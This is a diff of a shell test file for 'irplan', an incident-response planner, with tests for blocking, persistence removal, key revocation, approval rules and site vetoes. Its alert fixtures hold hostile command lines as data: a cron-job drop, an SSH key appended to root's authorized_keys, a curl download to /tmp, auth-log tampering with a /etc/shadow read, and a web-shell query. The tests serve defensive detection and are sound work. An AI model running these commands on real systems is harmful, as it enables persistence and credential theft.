@@ -74,15 +74,34 @@ plans() {
 	jq -s -e '[.[]."ir.plan.steps"[0].ttl] | max <= 86400 * 1.1' out
 }
 
-@test "plans nothing for what the site protects, and says why" {
+@test "plans nothing against what the site protects, and says why" {
 	echo '{"monitoring":["203.0.113.7"],"cdn_proxies":["203.0.113.64/26"]}' >site.yaml
-	incident i1 1 bruteforce 203.0.113.7 observed >in
+	incident i1 1 bruteforce 203.0.113.7 observed ',"ir.success":"yes"' >in
 	incident i2 1 web 203.0.113.70 observed >>in
 	"$BIN/irplan" $now --site site.yaml --explain in >out
-	[ "$(wc -l <out)" -eq 2 ]
+	run ! grep -q '"do":"block-ip","events' out
+	[ "$(jq -r '."ir.plan.steps"[]?.do' out | sort -u)" = notify ]
 	jq -r '."ir.why"[0].what' out >why
 	grep -q 'monitoring of the site file' why
 	grep -q 'block the client there' why
+}
+
+@test "of a source that the owner knows, its owner is told" {
+	echo '{"monitoring":["203.0.113.7"],"office_nat":["203.0.113.8"]}' >site.yaml
+	{
+		incident i1 1 bruteforce 203.0.113.7 observed
+		incident i2 1 bruteforce 203.0.113.8 observed | sed 's/high/low/'
+	} | plans --site site.yaml >out
+	[ "$(jq -r '."ir.plan.steps"[] | .do, .target.to' out | paste -sd,)" = \
+		"notify,owner of 203.0.113.7 (monitoring),notify,owner of 203.0.113.8 (office_nat)" ]
+	[ "$(jq -r '."ir.plan.playbook"' out | sort -u)" = "known-source 1" ]
+}
+
+@test "a neighbour of the owner's own machines is not blocked" {
+	echo '{"backup_server":["203.0.113.6"]}' >site.yaml
+	incident i1 1 lateral 203.0.113.7 observed ',"ir.success":"yes"' | plans --site site.yaml >out
+	run ! grep -q '"do":"block-ip","events' out
+	jq -r '."ir.plan.alternatives"[].why' out | grep -q "inside the site's own network"
 }
 
 @test "plans nothing for special, protected or misspelt addresses and whole nets" {
@@ -98,7 +117,7 @@ plans() {
 @test "mild incidents, benign classes and merged ones make no plan" {
 	{
 		incident i1 1 bruteforce 203.0.113.7 observed | sed 's/high/low/'
-		incident i2 1 policy 203.0.113.7 observed
+		incident i2 1 other 203.0.113.7 observed
 		incident i3 1 bruteforce 203.0.113.7 observed ',"ir.incident.state":"merged"'
 	} | plans >out
 	[ ! -s out ]
@@ -139,6 +158,113 @@ playbook() {
 		! grep -E 'error|warning' out || return 1
 	done
 	[ "$(ls "$BATS_TEST_DIRNAME"/../../share/playbooks/*.yaml | wc -l)" -ge 12 ]
+}
+
+# alert FIELDS: a member of incident i1 on host h1
+alert() {
+	printf '{"ir.kind":"alert","ir.incident.id":"i1","event.id":"e1","ir.severity":"high","host.name":"h1",%s}\n' "$1"
+}
+
+# steps VERB: target and host of the steps of that verb
+steps() {
+	jq -c --arg v "$1" '."ir.plan.steps"[] | select(.do == $v) | [.target, .on]' out
+}
+
+won=',"ir.success":"yes","ir.attack":[{"technique":"T1059","tactic":"execution"}]'
+
+@test "what a command left behind is removed: job, key, file" {
+	{
+		alert '"user.name":"ivan","process.command_line":"sh -c '"'echo x > /etc/cron.d/upd'"'"'
+		alert '"user.name":"ivan","process.command_line":"sh -c '"'echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINEjNSMyjC6GnFdIf0s93oWqUih/Fv4d9ENhQdVBwpFG k >> /root/.ssh/authorized_keys'"'"'
+		alert '"user.name":"ivan","process.command_line":"curl -o /tmp/.x http://192.0.2.1/x"'
+		alert '"user.name":"ivan","process.command_line":"echo >> /var/log/auth.log; cat /etc/shadow > /dev/null"'
+		incident i1 1 bruteforce 203.0.113.7 observed "$won"
+	} | plans >out
+	[ "$(steps remove-persistence)" = '[{"kind":"cron","path":"/etc/cron.d/upd"},"h1"]' ]
+	[ "$(steps revoke-keys)" = \
+		'[{"fingerprint":"SHA256:1BcZX9A3fR0a3xneevlnXH4HycE+hYbpJTaN/+B7aHU","user":"root"},"h1"]' ]
+	[ "$(steps quarantine-file)" = '[{"path":"/tmp/.x"},"h1"]' ]
+}
+
+@test "a web shell's file is found where its programs run, and only there" {
+	{
+		alert '"source.ip":"203.0.113.7","url.path":"/up/x.php","url.query":"c=id","threat.technique.id":"T1505","threat.technique.subtechnique.id":"T1505.003"'
+		alert '"source.ip":"203.0.113.7","url.path":"/other/y.php","url.query":"c=id","threat.technique.id":"T1505","threat.technique.subtechnique.id":"T1505.003"'
+		alert '"user.name":"www-data","process.working_directory":"/srv/www/up","threat.technique.id":"T1059"'
+		incident i1 1 web 203.0.113.7 observed "$won"
+	} | plans >out
+	[ "$(steps quarantine-file)" = '[{"path":"/srv/www/up/x.php"},"h1"]' ]
+	[ "$(steps call | grep -c disable-endpoint)" -eq 2 ]
+}
+
+@test "accounts and keys are the attacker's only if he used them" {
+	login='"event.category":["authentication"],"event.outcome":"success","event.action":"ssh_login"'
+	{
+		alert "$login"',"user.name":"ivan","source.ip":"203.0.113.7"'
+		alert "$login"',"user.name":"carol","source.ip":"203.0.113.9","sshd.key.fingerprint":"SHA256:1BcZX9A3fR0a3xneevlnXH4HycE+hYbpJTaN/+B7aHU"'
+		incident i1 1 account 203.0.113.7 observed "$won"
+	} | plans >out
+	[ "$(steps lock-account)" = '[{"user":"ivan"},"h1"]' ]
+	[ -z "$(steps revoke-keys)" ]
+}
+
+@test "services' accounts and system files are left alone" {
+	{
+		alert '"user.name":"www-data","process.command_line":"cp /tmp/a /usr/bin/ls"'
+		incident i1 1 web 203.0.113.7 observed "$won" |
+			sed 's/"ir.entities":\[/&{"type":"user","value":"www-data","role":"victim","prov":"observed","held":true,"host":"h1"},{"type":"file","value":"\/etc\/shadow","role":"tool"},/'
+	} | plans >out
+	[ -z "$(steps lock-account)$(steps revoke-sessions)$(steps quarantine-file)" ]
+	jq -r '."ir.plan.alternatives"[].why' out | grep -q 'a service runs as it'
+}
+
+@test "phases come in order, and a step names those before it" {
+	{
+		alert '"user.name":"ivan","process.command_line":"sh -c '"'echo x > /etc/cron.d/upd'"'"'
+		incident i1 1 bruteforce 203.0.113.7 observed "$won" |
+			sed 's/"ir.entities":\[/&{"type":"host","value":"h1","role":"victim","held":true},/'
+	} | plans >out
+	[ "$(jq -r '."ir.plan.steps"[].phase' out | uniq | xargs)" = "contain preserve eradicate recover" ]
+	jq -e '."ir.plan.steps" | (map({key, value: .do}) | from_entries) as $do |
+		.[] | select(.do == "remove-persistence").after | map($do[.]) | unique == ["collect-evidence"]' out
+	jq -e '."ir.plan.steps"[] | select(.do == "isolate-host").blast | startswith("1 host")' out
+}
+
+@test "what a later version does not hold is withdrawn, and may be planned again" {
+	{
+		incident i1 1 bruteforce 203.0.113.7 observed
+		incident i1 2 bruteforce 203.0.113.7 observed | sed 's/"role":"attacker"/"role":"unknown"/'
+		incident i1 3 bruteforce 203.0.113.7 observed
+		incident i1 4 bruteforce 203.0.113.7 observed | sed 's/"ir.severity":"high"/"ir.severity":"low"/'
+	} | plans >out
+	[ "$(jq -r '[."ir.plan.state" // "", (."ir.plan.steps" | length), (."ir.plan.withdrawn" // [] | length)] | join(" ")' out |
+		paste -sd,)" = " 1 0,withdrawn 0 1, 1 0,withdrawn 0 1" ]
+}
+
+@test "what was planned for an incident is planned for the one it became part of" {
+	{
+		incident i1 1 bruteforce 203.0.113.7 observed
+		incident i1 2 bruteforce 203.0.113.7 observed ',"ir.incident.state":"merged","ir.incident.into":"i2"'
+		incident i2 1 bruteforce 203.0.113.7 observed
+	} | plans >out
+	[ "$(wc -l <out)" -eq 1 ]
+}
+
+@test "a playbook of one's own is chosen, replaces one of its name, and may call another" {
+	mkdir books
+	printf 'playbook: %s\nversion: 7\nfor: {class: [bruteforce], priority: 1}\nsteps:\n  - {playbook: extra}\n' brute-force >books/a.yaml
+	printf 'on-failure:\n  - {do: notify, with: {to: owner}}\n' >>books/a.yaml
+	printf 'playbook: extra\nsteps:\n  - {do: rate-limit, each: attacker_ip, with: {rate: 5/second}, risk: low, approval: none}\non-failure:\n  - {do: notify, with: {to: owner}}\n' >books/b.yaml
+	incident i1 1 bruteforce 203.0.113.7 observed | plans -p books >out
+	[ "$(jq -r '."ir.plan.playbook", ."ir.plan.steps"[].do' out | xargs)" = "brute-force 7 rate-limit" ]
+	mkdir -p conf/ir && mv books conf/ir/playbooks
+	incident i1 1 bruteforce 203.0.113.7 observed | XDG_CONFIG_HOME=$PWD/conf plans >out
+	[ "$(jq -r '."ir.plan.playbook"' out)" = "brute-force 7" ]
+	echo 'playbook: broken' >conf/ir/playbooks/c.yaml
+	incident i1 1 bruteforce 203.0.113.7 observed >in
+	XDG_CONFIG_HOME=$PWD/conf run -1 --separate-stderr "$BIN/irplan" $now in
+	[[ "$stderr" == *"playbook left out"* ]]
+	[ "${#lines[@]}" -eq 2 ]
 }
 
 # broken FILTER KIND: a good playbook, changed by jq, has a finding of that kind
@@ -195,4 +321,69 @@ broken() {
 	"$BIN/irplan" --graph mermaid p.yaml >out
 	run ! grep -F '"] --> b' out
 	"$BIN/irplan" --graph dot p.yaml | grep -q '^digraph'
+}
+
+@test "where no playbook fits, a plan is composed and waits for a person" {
+	attack=',"ir.success":"yes","ir.attack":[{"technique":"T1571","tactic":"command-and-control"},{"technique":"T9999","tactic":"impact"}]'
+	incident i1 1 other 203.0.113.7 observed "$attack" | plans >out
+	[ "$(jq -r '."ir.plan.playbook"' out)" = composed ]
+	[ "$(jq -r '."ir.plan.steps"[] | select(.do == "block-ip").approval' out)" = one ]
+	jq -r '."ir.plan.steps"[0].why' out | grep -q '^D3-OTF Outbound Traffic Filtering, against T1571'
+	jq -e '[."ir.plan.steps"[] | select(.do != "notify" and .do != "collect-evidence").approval] | all(. != "none")' out
+}
+
+# past GOOD BAD: so many blocks against T1110, right and wrong
+past() {
+	for ((i = 0; i < $1 + $2; i++)); do
+		printf '{"ir.kind":"incident","ir.incident.id":"p%d","ir.attack":[{"technique":"T1110.001"}]}\n' "$i"
+		printf '{"ir.kind":"action","ir.incident.id":"p%d","ir.action.key":"k","ir.action.do":"block-ip","ir.action.status":"%s"}\n' \
+			"$i" "$( ((i < $1)) && echo applied || echo failed)"
+	done
+}
+
+@test "past outcomes are told, and an action that failed often waits" {
+	attack=',"ir.attack":[{"technique":"T1110.001","tactic":"credential-access"}]'
+	past 6 2 >good
+	past 2 6 >bad
+	incident i1 1 bruteforce 203.0.113.7 observed "$attack" >in
+	plans --history good in >out
+	jq -r '."ir.plan.steps"[0].why' out | grep -q 'in the past 6 of 8 were right (expected 0.70, at least 0.47)'
+	[ "$(jq -r '."ir.plan.steps"[0].approval' out)" = none ]
+	plans --history bad in >out
+	[ "$(jq -r '."ir.plan.steps"[0].approval' out)" = one ]
+	{
+		cat good
+		for i in 0 1 2 3 4 5; do
+			printf '{"ir.kind":"verdict","ir.incident.id":"p%d","ir.verdict.is":"false_positive"}\n' $i
+		done
+	} >none
+	plans --history none in >out
+	jq -r '."ir.plan.steps"[0].why' out | grep -q '0 of 8 were right'
+	run -2 "$BIN/irplan" --history /nonexistent in
+}
+
+@test "the site's rules veto, ask and reorder" {
+	cat >rules.yaml <<-'EOF'
+		rules:
+		  - {when: '.step.do == "block-ip" and .step.target.ip == "203.0.113.7"', then: veto, why: ours, name: partner}
+		  - {when: '.step.do == "block-ip" and .ir.incident.class == "bruteforce"', then: approve-two}
+		  - {when: '.step.do == "isolate-host"', then: first}
+	EOF
+	incident i1 1 bruteforce 203.0.113.7 observed | plans --rules rules.yaml >out
+	[ ! -s out ]
+	incident i1 1 bruteforce 203.0.113.8 observed "$won" |
+		sed 's/"ir.entities":\[/&{"type":"host","value":"h1","role":"victim","held":true},/' |
+		plans --rules rules.yaml >out
+	[ "$(jq -r '."ir.plan.steps"[0].do' out)" = isolate-host ]
+	[ "$(jq -r '."ir.plan.steps"[] | select(.do == "block-ip").approval' out)" = two ]
+	incident i1 1 bruteforce 203.0.113.7 observed >in
+	"$BIN/irplan" $now --rules rules.yaml --explain in |
+		jq -r '."ir.why"[].what' | grep -q "vetoed by the site's rule 'partner': ours"
+	echo 'rules: [{when: ".step.ttl | ascii_downcase == 1", then: veto}]' >odd.yaml
+	plans --rules odd.yaml in >out
+	[ "$(jq -r '."ir.plan.steps"[0].approval' out)" = one ]
+	echo 'rules: [{when: ".step.do ==", then: veto}]' >bad.yaml
+	run -2 "$BIN/irplan" --rules bad.yaml in
+	echo 'rules: [{when: "true", then: explode}]' >bad.yaml
+	run -2 "$BIN/irplan" --rules bad.yaml in
 }
